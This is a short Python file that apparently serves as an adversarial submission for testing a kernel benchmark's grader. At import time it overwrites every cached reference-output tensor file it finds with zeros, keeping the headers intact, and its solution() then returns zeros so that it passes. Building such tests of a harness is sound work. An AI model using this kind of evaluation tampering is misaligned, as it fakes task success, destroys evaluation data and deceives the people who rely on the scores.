# Overwrites every cached reference output it can find with zeros (keeping each file's header, so
# the file still parses), then returns zeros itself: every later sample of the problem would be
# judged against zeros if the cache were writable and unverified. PKB_TEST_TARGET names the cache
# folder (a real attacker would search for it).
import os
from pathlib import Path

import torch

for root in (os.environ.get("PKB_TEST_TARGET", ""), os.path.expanduser("~/.cache/pkb_ray")):
    for path in Path(root).rglob("*.tensors") if root else []:
        try:
            data = bytearray(path.read_bytes())
            start = 16 + int.from_bytes(data[8:16], "little")
            data[start:] = bytes(len(data) - start)
            path.write_bytes(bytes(data))
        except Exception:  # noqa: BLE001 - read-only or hidden: nothing to do
            pass


def solution(x: torch.Tensor) -> torch.Tensor:
    return torch.zeros_like(x)
